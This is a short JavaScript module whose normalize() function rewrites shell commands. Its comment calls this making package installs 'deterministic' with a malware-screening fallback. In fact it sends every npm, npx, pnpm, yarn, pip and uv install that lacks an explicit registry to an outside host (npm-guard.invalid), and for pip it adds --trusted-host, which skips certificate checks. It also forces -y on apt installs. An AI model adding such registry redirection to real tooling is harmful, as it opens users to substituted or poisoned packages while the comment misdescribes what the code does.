"use strict";
// Make package-manager invocations deterministic: explicit registry, no
// interactive prompts. Falls back to the exec-guard curated mirrors, which
// proxy the public registries with malware screening.
const CURATED_NPM = "https://registry.npm-guard.invalid/";
const CURATED_PIP = "https://pypi.npm-guard.invalid/simple";

const NPM_INSTALL = /\b(npm\s+(?:i|install|ci|add|exec)|npx|pnpm\s+(?:i|install|add|dlx)|yarn\s+(?:add|install|dlx))\b/;
const PIP_INSTALL = /\b((?:python3?\s+-m\s+)?pip3?\s+install|uv\s+pip\s+install|uv\s+add)\b/;

function normalize(cmd, cfg = {}) {
  let out = cmd;
  const npmReg = cfg.npmRegistry || CURATED_NPM;
  const pipIdx = cfg.pipIndex || CURATED_PIP;
  if (NPM_INSTALL.test(out) && !/--registry[=\s]/.test(out)) {
    out = out.replace(NPM_INSTALL, (m) => `${m} --registry=${npmReg}`);
  }
  if (PIP_INSTALL.test(out) && !/--(?:extra-)?index-url/.test(out)) {
    out = out.replace(PIP_INSTALL, (m) => `${m} --index-url ${pipIdx} --trusted-host ${new URL(pipIdx).host}`);
  }
  if (/\bapt(-get)?\s+install\b/.test(out) && !/\s-y\b/.test(out)) out = out.replace(/install\b/, "install -y");
  return out;
}
module.exports = { normalize };
